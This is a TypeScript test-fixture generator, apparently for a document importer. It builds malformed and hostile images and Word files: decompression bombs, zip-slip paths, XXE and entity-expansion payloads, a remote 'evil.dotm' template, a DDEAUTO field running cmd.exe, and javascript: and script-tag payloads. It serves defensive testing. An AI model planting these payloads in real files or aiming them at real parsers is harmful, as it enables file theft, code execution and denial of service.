import { crc32, deflateSync } from 'node:zlib';
import { archive, paragraph, wordFile } from '../import/word-file.ts';
import type { Bait } from './attack.ts';

/** Bytes of files that can't be written as text, by words such as `png 10 10` or `word external`. Throws for words it doesn't know. */
export function bytesMade(words: string, bait: Bait): Uint8Array {
  const [what = '', ...more] = words.split(' ');
  const made = makers[what]?.(more, bait);
  if (made === undefined) throw new Error(`Nobody makes ${words}.`);
  return made;
}

type Maker = (more: readonly string[], bait: Bait) => Uint8Array;

const makers: Readonly<Record<string, Maker>> = {
  hex: ([digits = '']) => Uint8Array.from(Buffer.from(digits, 'hex')),
  png: ([width = '1', height = '1', kind = 'whole']) => png(Number(width), Number(height), kind),
  jpeg: ([width = '1', height = '1', kind = 'noise']) => jpeg(Number(width), Number(height), kind),
  webp: ([width = '1', height = '1']) => webp(Number(width), Number(height)),
  gif: () => Uint8Array.from(Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')),
  padded: ([first = '', megabytes = '1']) => {
    const bytes = new Uint8Array(Number(megabytes) * 2 ** 20 + 1).fill(0x20);
    bytes.set(Buffer.from(first, 'hex'));
    return bytes;
  },
  bytes: ([megabytes = '1', character = '20']) =>
    new Uint8Array(Number(megabytes) * 2 ** 20).fill(Number.parseInt(character, 16)),
  word: ([kind = ''], bait) => word(kind, bait),
};

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const around = Buffer.alloc(8);
  around.writeUInt32BE(data.length, 0);
  around.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([around.subarray(0, 4), body, around.subarray(4)]);
}

/** A grey PNG (ISO/IEC 15948): `whole`, `cut` off in its pixels, a `bomb` of 64 MB for a few of them, or with `text` beside them. */
function png(width: number, height: number, kind: string): Uint8Array {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 8;
  const honest = width * height > 4_000_000 ? Buffer.alloc(9) : Buffer.alloc((width + 1) * height, 0x40);
  if (honest.length > 9) for (let row = 0; row < height; row += 1) honest[row * (width + 1)] = 0;
  const pixels = deflateSync(kind === 'bomb' ? Buffer.alloc(64 * 2 ** 20) : honest);
  const text = chunk('tEXt', Buffer.from('Comment\0<script>alert(1)</script>', 'latin1'));
  const whole = Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    ...(kind === 'text' ? [text] : []),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
  return Uint8Array.from(kind === 'cut' ? whole.subarray(0, -20) : whole);
}

/** A frame header (ITU-T T.81, B.2.2) and then `noise`, or no header at all. */
function jpeg(width: number, height: number, kind: string): Uint8Array {
  const frame = Buffer.from('ffd8ffc0000b080000000001011100', 'hex');
  frame.writeUInt16BE(height, 7);
  frame.writeUInt16BE(width, 9);
  const noise = Buffer.from(Array.from({ length: 300 }, (_, index) => (index * 89) % 251));
  return Uint8Array.from(
    kind === 'none' ? Buffer.concat([frame.subarray(0, 3), noise]) : Buffer.concat([frame, noise]),
  );
}

/** An extended header (RFC 9649, 2.7) and nothing behind it. */
function webp(width: number, height: number): Uint8Array {
  const bytes = Buffer.alloc(40);
  bytes.write('RIFF', 0, 'latin1');
  bytes.writeUInt32LE(32, 4);
  bytes.write('WEBPVP8X', 8, 'latin1');
  bytes.writeUInt32LE(10, 16);
  bytes.writeUIntLE(width - 1, 24, 3);
  bytes.writeUIntLE(height - 1, 27, 3);
  return Uint8Array.from(bytes);
}

const body = paragraph('一、职业教育') + paragraph('全省共有职业学校三百所。');

function word(kind: string, { server, canary }: Bait): Uint8Array {
  const to = (id: string, type: string, target: string): string =>
    `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
  const run = (text: string): string => `<w:r><w:t>${text}</w:t></w:r>`;
  switch (kind) {
    case 'slip':
      return wordFile({ body, parts: { '../../slipped.xml': 'x' } });
    case 'absolute':
      return wordFile({ body, parts: { '/tmp/slipped.xml': 'x' } });
    case 'drive':
      return wordFile({ body, parts: { 'C:\\slipped.xml': 'x' } });
    case 'entities':
      return wordFile({
        body,
        parts: {
          'word/document.xml': `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><w:document>&b;</w:document>`,
        },
      });
    case 'outside-entity':
      return wordFile({
        body,
        parts: {
          'word/document.xml': `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a SYSTEM "file://${canary}">]><w:document>&a;</w:document>`,
        },
      });
    case 'macros':
      return wordFile({ body, parts: { 'word/vbaProject.bin': 'x' } });
    case 'deep':
      return wordFile({ body: `${'<w:sdt>'.repeat(100_000)}${'</w:sdt>'.repeat(100_000)}` });
    case 'parts':
      return archive(Object.fromEntries(Array.from({ length: 5100 }, (_, index) => [`word/${index}.xml`, 'x'])));
    case 'bomb': {
      const bytes = wordFile({ body, media: { 'a.png': new Uint8Array(70 * 2 ** 20) } });
      return bytes;
    }
    case 'lies': {
      const bytes = wordFile({ body: paragraph('文'.repeat(200_000)) });
      const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
      view.setUint32(Buffer.from(bytes).lastIndexOf('word/document.xml') - 46 + 24, 1000, true);
      return bytes;
    }
    case 'linked':
      return wordFile({
        body: `${body}<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="rIdx"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
        relationships: to('rIdx', 'image', `${server}/linked.png`),
      });
    case 'template':
      return wordFile({ body, relationships: to('rIdt', 'attachedTemplate', `${server}/evil.dotm`) });
    case 'script-link':
      return wordFile({
        body: `${body}<w:p><w:hyperlink r:id="rIdl">${run('点击')}</w:hyperlink></w:p>`,
        relationships: to('rIdl', 'hyperlink', 'javascript:alert(1)'),
      });
    case 'file-link':
      return wordFile({
        body: `${body}<w:p><w:hyperlink r:id="rIdl">${run('点击')}</w:hyperlink></w:p>`,
        relationships: to('rIdl', 'hyperlink', `file://${canary}`),
      });
    case 'field':
      return wordFile({
        body: `${body}<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\windows\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run('结果')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      });
    case 'include':
      return wordFile({
        body: `${body}<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;${canary}&quot;">${run('文')}</w:fldSimple></w:p>`,
      });
    case 'markup':
      return wordFile({
        body: `${body}${paragraph('<script>alert(1)</script> [x](javascript:alert(1)) {{constructor}}')}`,
      });
    default:
      throw new Error(`Nobody writes a Word file for ${kind}.`);
  }
}
